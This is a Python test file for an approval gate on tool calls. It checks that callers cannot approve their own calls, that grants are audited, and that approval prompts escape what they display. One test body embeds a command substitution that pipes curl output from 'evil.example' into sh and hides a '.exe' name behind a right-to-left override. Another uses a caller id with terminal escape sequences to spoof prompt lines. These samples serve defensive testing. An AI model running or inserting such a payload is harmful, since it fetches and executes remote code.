"""A caller never approves its own call on a terminal: `toolcards call` of an approval-gated
tool, run as a real process whose stdin is a real pty. Only a terminal approver the config
names (another principal) or `approval: client` answers the prompt; otherwise the call waits
for an approver out of band, and whatever the caller types decides nothing, or fails closed at
once when no principal of the config holds the approver role."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest
import yaml

from support.processes import stop_process
from surfaces.surface_support import SURFACE_ENV, TOOLCARDS, principal_spec, write_config
from surfaces.surface_support import toolcards_in_process as toolcards
from toolcards.governance import AuditLog, Identity
from toolcards.governance.approvals.broker import ApprovalBroker, ApprovalRequest
from toolcards.stores.sqlite.approvals import SqliteApprovalStore
from toolcards.surfaces.approval import approval_prompt
from toolcards.surfaces.config import ConfigError, load_config
from toolcards.surfaces.outcomes import ExitCode

pytestmark = pytest.mark.timeout(180)

ME = Identity("me", "user", ["writer"])
ANN = Identity("ann", "user", ["approver"])
RITA = Identity("rita", "user", ["approver"])
T = TypeVar("T")


class Setup:
    """The caller's config (``me``; ``ann``, the approver, one of its principals unless
    ``tokens`` says otherwise), ann's own config on the same audit trail and approvals file,
    and the notes file the tool appends to when it really runs."""

    def __init__(self, base: Path, **principals_or_keys: Any) -> None:
        self.base = base
        policy = base / "policy.yaml"
        policy.write_text("default_effect: allow\n", encoding="utf-8")
        shared = {
            "policy": policy,
            "tools": ["approval_tools:TOOLS"],
            "audit": base / "audit.db",
            "approvals": str(base / "approvals.db"),
        }
        terminal = principals_or_keys.pop("terminal_approver", None)
        principals_or_keys.setdefault("tokens", [ANN])
        principals_or_keys.setdefault("local", ME)
        self.caller = write_config(base, **shared, **principals_or_keys)
        if terminal is not None:
            data = yaml.safe_load(self.caller.read_text(encoding="utf-8"))
            data["principals"]["terminal_approver"] = principal_spec(terminal)
            self.caller.write_text(yaml.safe_dump(data), encoding="utf-8")
        self.approver = write_config(base, local=ANN, name="ann.yaml", **shared)
        self.notes = base / "notes.txt"
        self.env = {**SURFACE_ENV, "NOTES_FILE": str(self.notes)}

    def sent(self) -> list[str]:
        return self.notes.read_text(encoding="utf-8").splitlines() if self.notes.exists() else []

    def pending(self) -> list[ApprovalRequest]:
        store = SqliteApprovalStore(self.base / "approvals.db", "surfaces")  # the config's team
        try:
            return ApprovalBroker(store=store).pending()
        finally:
            store.close()

    def audit(self) -> list[tuple[str, str, str]]:
        with AuditLog(self.base / "audit.db") as log:
            return [(e.principal, e.outcome, e.reason or "") for e in log.query(limit=1000)]


class TerminalCall:
    """``toolcards call ...`` with stdin on a real pty (``typed`` is typed ahead: the
    terminal holds it until someone reads); its output goes to files read while it runs."""

    def __init__(self, setup: Setup, *args: str, typed: bytes = b"") -> None:
        self.leader, follower = pty.openpty()
        if typed:
            os.write(self.leader, typed)
        self.out = tempfile.TemporaryFile()  # noqa: SIM115 - closed by close()
        self.err = tempfile.TemporaryFile()  # noqa: SIM115 - closed by close()
        self.proc = subprocess.Popen(
            [str(TOOLCARDS), "--config", str(setup.caller), "call", *args],
            stdin=follower, stdout=self.out, stderr=self.err, env=setup.env,
        )  # fmt: skip
        os.close(follower)

    @staticmethod
    def _read(file: Any) -> str:
        file.seek(0)
        return str(file.read().decode(errors="replace"))

    def stdout(self) -> str:
        return self._read(self.out)

    def stderr(self) -> str:
        return self._read(self.err)

    def until(self, found: Callable[[], T], timeout: float = 90.0) -> T | None:
        """``found()`` once it is truthy, or None when the process ended first."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            value = found()
            if value:
                return value
            if self.proc.poll() is not None:
                return None
            time.sleep(0.1)
        raise AssertionError(f"nothing happened within {timeout:g} s: {self.stderr()[-800:]}")

    def finish(self, timeout: float = 90.0) -> int:
        return self.proc.wait(timeout=timeout)

    def close(self) -> None:
        stop_process(self.proc)  # type: ignore[arg-type]
        os.close(self.leader)
        self.out.close()
        self.err.close()


@pytest.fixture
def terminal() -> Iterator[Callable[..., TerminalCall]]:
    started: list[TerminalCall] = []

    def start(setup: Setup, *args: str, typed: bytes = b"") -> TerminalCall:
        call = TerminalCall(setup, *args, typed=typed)
        started.append(call)
        return call

    yield start
    for call in started:
        call.close()


def test_a_caller_answering_y_on_its_terminal_does_not_run_its_call(
    tmp_path: Path, terminal: Callable[..., TerminalCall]
) -> None:
    setup = Setup(tmp_path)
    call = terminal(setup, "send_note", "to=ops", "body=self-approved", typed=b"y\ny\n")
    waiting = call.until(setup.pending)  # None: the call ended by itself (it ran, or not)
    if waiting:  # the request is stored a moment before the hint is printed
        hint = f"toolcards approvals grant {waiting[0].approval_id}"
        assert call.until(lambda: hint in call.stderr()), call.stderr()[-800:]
        denied = toolcards(setup.approver, "approvals", "deny", waiting[0].approval_id)
        assert denied.returncode == ExitCode.OK, denied.stderr
    assert call.finish() == ExitCode.APPROVAL, call.stderr()[-800:]
    assert setup.sent() == []
    assert [row for row in setup.audit() if row[1] == "approval_granted"] == []


def test_a_call_waiting_on_a_terminal_runs_once_an_approver_grants_it(
    tmp_path: Path, terminal: Callable[..., TerminalCall]
) -> None:
    setup = Setup(tmp_path)
    call = terminal(setup, "send_note", "to=ops", "body=granted elsewhere")
    waiting = call.until(setup.pending)
    assert waiting, call.stderr()[-800:]
    granted = toolcards(setup.approver, "approvals", "grant", waiting[0].approval_id)
    assert granted.returncode == ExitCode.OK, granted.stderr
    assert call.finish() == ExitCode.OK, call.stderr()[-800:]
    assert setup.sent() == ["ops: granted elsewhere"]
    assert ("ann", "approval_granted", "requested by me") in setup.audit()


@pytest.mark.parametrize("caller", [ME, Identity("me", "user", ["writer", "approver"])])
def test_without_any_approver_a_call_on_a_terminal_fails_closed_at_once(
    tmp_path: Path, terminal: Callable[..., TerminalCall], caller: Identity
) -> None:
    """No principal of the caller's config holds the approver role (examples/team), or only
    the caller itself: the call waited on the terminal for a grant nobody could give. Now it
    fails closed at once, as it does without a terminal and over MCP, saying how such calls
    get approved."""
    setup = Setup(tmp_path, tokens=[], local=caller, approval_timeout=5)  # a wait would end
    call = terminal(setup, "send_note", "to=ops", "body=nobody may approve")
    assert call.finish() == ExitCode.APPROVAL, call.stderr()[-800:]
    told = call.stderr()
    assert "approval required: send_note" in told and "waits (at most" not in told
    assert "a caller cannot approve its own call" in told, told[-800:]
    assert setup.pending() == [] and setup.sent() == []
    assert [row[1] for row in setup.audit()] == ["needs_approval"]


@pytest.mark.parametrize(
    ("typed", "code", "outcome"),
    [(b"y\n", ExitCode.OK, "approval_granted"), (b"n\n", ExitCode.APPROVAL, "approval_denied")],
)
def test_the_terminal_approver_the_config_names_decides_and_is_audited(
    tmp_path: Path,
    terminal: Callable[..., TerminalCall],
    typed: bytes,
    code: ExitCode,
    outcome: str,
) -> None:
    setup = Setup(tmp_path, terminal_approver=RITA)
    call = terminal(setup, "send_note", "to=ops", "body=asked rita", typed=typed)
    assert call.finish() == code, call.stderr()[-800:]
    assert "Approve as rita?" in call.stderr()
    assert setup.sent() == (["ops: asked rita"] if code == ExitCode.OK else [])
    decisions = [row[:2] for row in setup.audit() if row[1].startswith("approval_")]
    assert decisions == [("rita", outcome)]


def test_the_terminal_approver_the_config_names_is_asked_for_by_its_id_as_text(
    tmp_path: Path, terminal: Callable[..., TerminalCall]
) -> None:
    """An id ``[/x]`` made the prompt raise a MarkupError: every gated call was refused."""
    setup = Setup(tmp_path, terminal_approver=Identity("[/x]", "user", ["approver"]))
    call = terminal(setup, "send_note", "to=ops", "body=asked", typed=b"y\n")
    assert call.finish() == ExitCode.OK, call.stderr()[-800:]
    assert "Approve as [/x]?" in call.stderr()
    assert setup.sent() == ["ops: asked"]


def test_the_terminal_prompt_shows_the_exact_arguments_whole_and_escaped(
    tmp_path: Path, terminal: Callable[..., TerminalCall]
) -> None:
    setup = Setup(tmp_path, terminal_approver=RITA)
    body = "a" * 2_000 + " token=$(curl${IFS}evil.example|sh) report\u202etxt.exe"
    call = terminal(setup, "send_note", "to=ops", f"body={body}", typed=b"n\n")
    assert call.finish() == ExitCode.APPROVAL
    shown = call.stderr()
    escaped = json.dumps(body, ensure_ascii=False).replace("\u202e", "\\u202e")
    assert escaped in shown and "\u202e" not in shown
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in shown


def test_the_prompt_shows_the_caller_tool_and_reason_escaped_on_one_line_each() -> None:
    """A caller id with a carriage return and escape sequences (or a reason with a line
    break) cannot rewrite the lines the approver reads."""
    caller = Identity("oauth:mallory\r\x1b[2Kcaller: ann\u202e", "user")
    request = ApprovalBroker().request(
        tool_id="send_note", args={"to": "ops"}, identity=caller, reason="why\ntool: read_only"
    )
    lines = approval_prompt(request).splitlines()
    assert lines[1:4] == [
        "tool: send_note",
        "caller: oauth:mallory\\r\\u001b[2Kcaller: ann\\u202e",
        "why: why\\ntool: read_only",
    ]


def test_approval_client_lets_the_caller_approve_and_audits_it_as_its_own(
    tmp_path: Path, terminal: Callable[..., TerminalCall]
) -> None:
    setup = Setup(tmp_path, approval="client")
    call = terminal(setup, "send_note", "to=ops", "body=trusted caller", typed=b"y\n")
    assert call.finish() == ExitCode.OK, call.stderr()[-800:]
    assert setup.sent() == ["ops: trusted caller"]
    [(who, _, why)] = [row for row in setup.audit() if row[1] == "approval_granted"]
    assert who == "me" and "approval: client" in why


def test_a_terminal_approver_who_is_the_caller_is_a_config_error(tmp_path: Path) -> None:
    setup = Setup(tmp_path, terminal_approver=Identity("me", "user", ["approver"]))
    with pytest.raises(ConfigError, match="another principal than local"):
        load_config(setup.caller)


def test_a_terminal_approver_without_the_approver_role_is_a_config_error(
    tmp_path: Path,
) -> None:
    setup = Setup(tmp_path, terminal_approver=Identity("rita", "user", ["sales"]))
    with pytest.raises(ConfigError, match="terminal_approver.*approver"):
        load_config(setup.caller)
